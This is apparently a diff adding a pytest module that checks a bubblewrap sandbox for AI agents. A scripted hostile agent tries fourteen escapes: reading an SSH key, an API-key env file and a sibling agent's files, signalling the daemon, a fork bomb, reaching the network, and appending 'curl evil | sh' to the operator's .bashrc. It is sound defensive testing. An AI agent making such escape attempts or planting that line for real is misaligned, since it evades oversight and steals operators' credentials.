@@ -1,0 +1,296 @@
+"""Hostile agents: each one a real agent, started by a real daemon, trying one way out of its
+box. With the sandbox on (`[roles.NAME.isolation] mode = "bwrap"`, caps, `network = "none"`)
+every attempt fails and the fleet goes on; with the sandbox off the same attempts succeed,
+so each test would catch an escape.
+
+One fleet per mode runs every attempt at once (a role per attempt, each in a workdir of its
+own, where it writes what it managed: its workdir is the one place a boxed agent may write).
+The fleet lives in /var/tmp, as a real user's files do: a box's /tmp is its own.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+
+import psutil
+import pytest
+
+from taskherd.model import Task, TaskState
+from tests.fleet import PYTHON, Fleet
+
+pytestmark = pytest.mark.skipif(
+    shutil.which("bwrap") is None and not os.environ.get("CI"),
+    reason="bubblewrap is not installed (apt install bubblewrap)")
+
+HOSTILE = """
+import json, os, signal, socket, subprocess, sys, time
+
+attempt = sys.argv[1]
+given = json.load(open("given.json"))  # planted in its workdir by the test
+
+
+def report(escaped, detail=""):
+    with open("result.tmp", "w") as out:
+        json.dump({"escaped": escaped, "detail": str(detail)[:300]}, out)
+    os.replace("result.tmp", "result.json")
+
+
+def tried(action):
+    try:
+        return True, action()
+    except OSError as error:
+        return False, f"{type(error).__name__}: {error}"
+
+
+if attempt == "read_database":
+    ok, data = tried(lambda: open(given["database"], "rb").read(16))
+    report(ok and data.startswith(b"SQLite format 3"), data)
+elif attempt == "list_data_dir":
+    ok, names = tried(lambda: os.listdir(given["data_dir"]))
+    report(ok and any(name.startswith("taskherd.db") for name in names), names)
+elif attempt == "read_sibling_worktree":
+    ok, text = tried(lambda: open(given["sibling_file"]).read())
+    report(ok and "sibling's secret" in text, text)
+elif attempt == "read_ssh_key":
+    ok, text = tried(lambda: open(given["ssh_key"]).read())
+    report(ok and "PRIVATE KEY" in text, text)
+elif attempt == "read_env_file":
+    ok, text = tried(lambda: open(given["env_file"]).read())
+    report(ok and "ANTHROPIC_API_KEY" in text, text)
+elif attempt == "write_config":
+    ok, said = tried(lambda: open(given["config"], "a").write("\\n# written by an agent\\n"))
+    report(ok, said)
+elif attempt == "write_bashrc":
+    ok, said = tried(lambda: open(given["bashrc"], "a").write("curl evil | sh\\n"))
+    report(ok, said)
+elif attempt == "write_outside":
+    ok, said = tried(lambda: open(given["outside"], "w").write("escaped"))
+    report(ok, said)
+elif attempt == "signal_daemon":
+    # SIGCONT: delivered, but harmless to a running process, so the unboxed run goes on.
+    results = [tried(lambda pid=pid: os.kill(pid, signal.SIGCONT)) for pid in given["pids"]]
+    report(any(ok for ok, _ in results), results)
+elif attempt == "connect_sockets":
+    def connect(path):
+        try:
+            with socket.socket(socket.AF_UNIX) as sock:
+                sock.connect(path)
+        except OSError as error:
+            if error.errno != 91:  # EPROTOTYPE: a datagram socket (the store's events)
+                raise
+            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
+                sock.connect(path)
+    results = [tried(lambda path=path: connect(path)) for path in given["sockets"]]
+    report(any(ok for ok, _ in results), results)
+elif attempt == "another_runs_door":
+    # Its own credential, another run's ids: the door knows runs by credential alone.
+    env = dict(os.environ, TASKHERD_RUN_ID=str(given["sibling_run"]),
+               TASKHERD_TASK_ID=str(given["sibling_task"]))
+    said = subprocess.run([sys.executable, "-m", "taskherd", "fail", "--summary", "hijacked"],
+                          env=env, capture_output=True, text=True)
+    report(None, said.stdout + said.stderr)  # judged by the test: the sibling's run
+    sys.exit(0)
+elif attempt == "fork_bomb":
+    children, refused = [], 0
+    for _ in range(4 * given["pids_cap"]):
+        try:
+            pid = os.fork()
+        except OSError:
+            refused += 1
+            continue
+        if pid == 0:
+            time.sleep(60)
+            os._exit(0)
+        children.append(pid)
+    for pid in children:
+        os.kill(pid, signal.SIGKILL)
+    report(len(children) >= 4 * given["pids_cap"], f"{len(children)} forked, {refused} refused")
+elif attempt == "eat_memory":
+    eaten = [bytearray(4 << 20) for _ in range(64)]  # 256 MiB, every page touched
+    report(True, f"ate {len(eaten) * 4} MiB")  # never written when its cap holds
+elif attempt == "reach_the_network":
+    ok, said = tried(lambda: socket.create_connection(("127.0.0.1", given["port"]), 2).close())
+    report(ok, said)
+print("TASK_COMPLETE: tried")
+"""
+
+VICTIM = """
+import os, time
+open("secret.txt", "w").write("the sibling's secret")
+while not os.path.exists("release"):  # its work, until the test lets it finish
+    time.sleep(0.05)
+print("TASK_COMPLETE: done")
+"""
+
+ATTEMPTS = ("read_database", "list_data_dir", "read_sibling_worktree", "read_ssh_key",
+            "read_env_file", "write_config", "write_bashrc", "write_outside", "signal_daemon",
+            "connect_sockets", "another_runs_door", "fork_bomb", "eat_memory",
+            "reach_the_network")
+PIDS, MEMORY = 32, "64M"
+IDENTITY = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+            "GIT_COMMITTER_EMAIL": "t@t"}
+
+
+def isolation(attempt: str, boxed: bool) -> str:
+    if not boxed:
+        return 'mode = "off"'
+    table = 'mode = "bwrap"'
+    if attempt == "fork_bomb":
+        table += f", pids = {PIDS}"
+    if attempt == "eat_memory":
+        table += f', memory = "{MEMORY}"'
+    if attempt == "reach_the_network":
+        table += ', network = "none"'
+    return table
+
+
+def hostile_fleet(root, boxed: bool) -> Fleet:
+    (root / "home" / ".ssh").mkdir(parents=True)
+    (root / "home" / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----")
+    (root / "home" / ".bashrc").write_text("# the operator's\n")
+    (root / "taskherd.env").write_text("ANTHROPIC_API_KEY=sk-secret\n")
+    (root / "hostile.py").write_text(HOSTILE)
+    (root / "victim.py").write_text(textwrap.dedent(VICTIM))
+    repo = root / "repo"
+    repo.mkdir()
+    for args in (("init", "-q", "-b", "main"), ("commit", "-q", "--allow-empty", "-m", "start")):
+        subprocess.run(["git", "-C", str(repo), *args], check=True,
+                       env={"PATH": "/usr/bin:/bin", **IDENTITY})
+    roles = ""
+    for attempt in ATTEMPTS:
+        (root / "work" / attempt).mkdir(parents=True)
+        roles += f"""
+        [roles.{attempt}]
+        command = ["{PYTHON}", "-S", "{root / 'hostile.py'}", "{attempt}"]
+        workdir = "work/{attempt}"
+        max_attempts = 1
+        isolation = {{ {isolation(attempt, boxed)} }}
+        """
+    fleet = Fleet(root, f"""
+        [daemon]
+        data_dir = "data"
+        timezone = "UTC"
+        path = "/usr/bin:/bin"
+        max_concurrent = 20
+        {roles}
+        [roles.victim]
+        command = ["{PYTHON}", "-S", "{root / 'victim.py'}"]
+        git = {{ repo = "repo" }}
+        isolation = {{ {'mode = "bwrap"' if boxed else 'mode = "off"'} }}
+
+        [roles.bystander]
+        command = ["echo", "TASK_COMPLETE: unharmed"]
+    """)
+    fleet.env["HOME"] = str(root / "home")
+    return fleet
+
+
+@dataclass
+class Trial:
+    """One mode's attempts: what each agent said it managed, and the fleet they ran in."""
+
+    boxed: bool
+    results: dict[str, dict | None]  # None: the agent never said (killed first)
+    fleet: Fleet
+    tasks: dict[str, Task]
+    victim: Task
+    victim_run: int
+    bystander: Task
+
+
+@pytest.fixture(scope="module", params=["boxed", "unboxed"])
+def attempts(request):
+    """Every attempt's result in one mode: {attempt: {"escaped", "detail"}}, with the fleet
+    (one fleet per mode for the whole module)."""
+    boxed = request.param == "boxed"
+    host_dir = Path(tempfile.mkdtemp(prefix="taskherd-hostile-", dir="/var/tmp"))
+    listener = socket.create_server(("127.0.0.1", 0))
+    fleet = hostile_fleet(host_dir, boxed)
+    try:
+        fleet.up()
+        victim = fleet.add("keep a secret", role="victim")
+        [victim_run] = fleet.wait_until(
+            lambda: [r for r in fleet.store.runs_of_task(victim.id) if r.pid], what="the victim")
+        worktree = fleet.data_dir / "worktrees" / f"task-{victim.id}"
+        fleet.wait_until((worktree / "secret.txt").exists, what="the victim's secret")
+        daemon = psutil.Process(fleet.daemon.pid)
+        # The daemon's other sockets (its store's event sockets): not the agent's own door.
+        sockets = [str(path) for path in host_dir.rglob("*.sock")
+                   if path.is_socket() and path.resolve().parent.name != "door"]
+        assert sockets
+        given = {
+            "database": str(fleet.data_dir / "taskherd.db"), "data_dir": str(fleet.data_dir),
+            "sibling_file": str(worktree / "secret.txt"),
+            "ssh_key": str(host_dir / "home" / ".ssh" / "id_ed25519"),
+            "env_file": str(host_dir / "taskherd.env"), "config": str(fleet.config_path),
+            "bashrc": str(host_dir / "home" / ".bashrc"),
+            "outside": str(host_dir / "outside.txt"),
+            "pids": [daemon.pid, *(child.pid for child in daemon.children())],
+            "sockets": sockets, "sibling_run": victim_run.id, "sibling_task": victim.id,
+            "pids_cap": PIDS, "port": listener.getsockname()[1]}
+        for attempt in ATTEMPTS:
+            (host_dir / "work" / attempt / "given.json").write_text(json.dumps(given))
+        tasks = {attempt: fleet.add(attempt, role=attempt) for attempt in ATTEMPTS}
+        bystander = fleet.add("unharmed", role="bystander")
+        for task in tasks.values():
+            fleet.wait_final(task.id, timeout=60)
+        (worktree / "release").write_text("")
+        results = {}
+        for attempt, task in tasks.items():
+            found = host_dir / "work" / attempt / "result.json"
+            results[attempt] = json.loads(found.read_text()) if found.exists() else None
+        yield Trial(boxed, results, fleet, tasks, victim, victim_run.id, bystander)
+        assert fleet.daemon.poll() is None  # nothing stopped the daemon
+    finally:
+        listener.close()
+        fleet.close()
+        if not os.environ.get("KEEP_HOST_DIR"):
+            shutil.rmtree(host_dir, ignore_errors=True)
+
+
+def test_every_escape_fails_in_the_box_and_succeeds_out_of_it(attempts):
+    judged = {attempt: attempts.results[attempt] for attempt in ATTEMPTS
+              if attempt not in ("another_runs_door", "eat_memory")}
+    # Every attempt was made: an agent that never ran escapes nothing and proves nothing.
+    assert all(judged.values()), {attempt: attempts.fleet.store.get_task(
+        attempts.tasks[attempt].id).last_error for attempt, r in judged.items() if r is None}
+    escaped = {attempt: result["escaped"] for attempt, result in judged.items()}
+    if attempts.boxed:
+        assert not any(escaped.values()), {a: judged[a] for a, e in escaped.items() if e}
+    else:
+        assert all(escaped.values()), {a: judged[a] for a, e in escaped.items() if not e}
+    root, boxed = attempts.fleet.root, attempts.boxed
+    assert ("written by an agent" in attempts.fleet.config_path.read_text()) is not boxed
+    assert ("curl evil" in (root / "home" / ".bashrc").read_text()) is not boxed
+    assert (root / "outside.txt").exists() is not boxed
+
+
+def test_memory_past_the_cap_is_killed_naming_it(attempts):
+    task = attempts.fleet.store.get_task(attempts.tasks["eat_memory"].id)
+    if attempts.boxed:
+        assert attempts.results["eat_memory"] is None  # killed before it could say it ate
+        assert task.state is TaskState.DEAD
+        assert task.last_error.startswith("out of memory: 64.0 MiB cap")
+    else:
+        assert attempts.results["eat_memory"]["escaped"]
+        assert task.state is TaskState.COMPLETED
+
+
+def test_its_own_credential_acts_on_no_other_run_and_the_fleet_goes_on(attempts):
+    fleet = attempts.fleet
+    # The door knows a run by its credential: the 'fail' landed on the attempt's own run.
+    own = fleet.store.runs_of_task(attempts.tasks["another_runs_door"].id)[-1]
+    assert own.report == "fail" and own.report_summary == "hijacked"
+    done = fleet.wait_final(attempts.victim.id)
+    assert done.state is TaskState.COMPLETED
+    [run] = fleet.store.runs_of_task(attempts.victim.id)
+    assert run.id == attempts.victim_run and run.report is None  # untouched by the other
+    assert fleet.wait_final(attempts.bystander.id).state is TaskState.COMPLETED
